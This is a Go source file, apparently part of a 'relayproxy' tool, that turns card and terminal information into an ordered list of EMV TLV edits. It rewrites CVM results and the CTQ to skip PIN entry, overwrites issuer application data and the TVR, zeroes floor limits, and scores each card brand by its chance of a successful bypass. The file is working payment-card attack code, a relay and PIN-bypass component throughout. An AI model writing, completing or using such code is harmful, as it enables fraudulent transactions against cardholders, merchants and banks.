// Package bypass turns analyzer output and policy state into an ordered
// TLV edit plan.
package bypass

import (
	"errors"
	"fmt"

	"github.com/drossi/relayproxy/internal/emv"
	"github.com/drossi/relayproxy/internal/emv/card"
	"github.com/drossi/relayproxy/internal/emv/tlv"
	"github.com/drossi/relayproxy/internal/policy"
)

var ErrProtectedTagEdit = errors.New("bypass: plan touches a protected tag")

var (
	ctqNoPIN  = []byte{0x00, 0x00}
	tvrBypass = []byte{0x80, 0x00, 0x00, 0x00, 0x00}
	zeroFloor = []byte{0x00, 0x00, 0x00, 0x00}
)

// cdcvmBrands are the networks whose CVR rewrite is meaningful; Unknown,
// DinersClub, and Maestro cards skip the 9F10 edit.
var cdcvmBrands = map[card.Brand]struct{}{
	card.Visa:       {},
	card.Mastercard: {},
	card.Amex:       {},
	card.Discover:   {},
	card.JCB:        {},
	card.UnionPay:   {},
}

// Result is one bypass decision. Blocked plans carry no edits and resolve
// to a rejection at the pipeline level. HighRisk only flavors logging.
type Result struct {
	Blocked            bool
	HighRisk           bool
	Strategy           Strategy
	Edits              tlv.Plan
	SuccessProbability float64
}

// Build selects a strategy for the card/terminal pair and materializes the
// edit list from the policy toggles. Edits apply in list order.
func Build(info card.Info, terminal card.TerminalKind, pol policy.State) Result {
	if pol.BlockAll {
		return Result{Blocked: true}
	}

	strat := lookupStrategy(info.Brand, info.Type, terminal)
	res := Result{
		Strategy:           strat,
		HighRisk:           info.Brand == card.UnionPay && terminal == card.TerminalATM,
		SuccessProbability: successProbability(info.Brand, info.Type, terminal),
	}

	plan := make(tlv.Plan, 0, 7)
	if pol.BypassPIN {
		plan = append(plan,
			tlv.Replace(emv.TagCVMResults, strat.CVMResults),
			tlv.Replace(emv.TagCTQ, ctqNoPIN),
		)
	}
	if pol.CDCVMEnabled {
		if _, ok := cdcvmBrands[info.Brand]; ok {
			plan = append(plan, tlv.Replace(emv.TagIssuerAppData, strat.CVR))
		}
	}
	if pol.EnhancedLimits && info.Type == card.Business {
		plan = append(plan, tlv.Replace(emv.TagTerminalFloor, zeroFloor))
	}
	plan = append(plan,
		tlv.Replace(emv.TagTerminalCaps, strat.TerminalCaps),
		tlv.Replace(emv.TagTVR, tvrBypass),
	)
	if strat.CVMList != nil {
		plan = append(plan, tlv.Replace(emv.TagCVMList, strat.CVMList))
	}

	res.Edits = plan
	return res
}

// ValidatePlan rejects plans containing protected tags. A hit is a
// programmer error in plan construction, surfaced as ErrProtectedTagEdit
// so the pipeline can answer INTERNAL without crashing.
func ValidatePlan(plan tlv.Plan) error {
	for _, edit := range plan {
		if emv.Protected(edit.Tag) {
			return fmt.Errorf("%w: %s (%X)", ErrProtectedTagEdit, emv.TagName(edit.Tag), edit.Tag)
		}
	}
	return nil
}
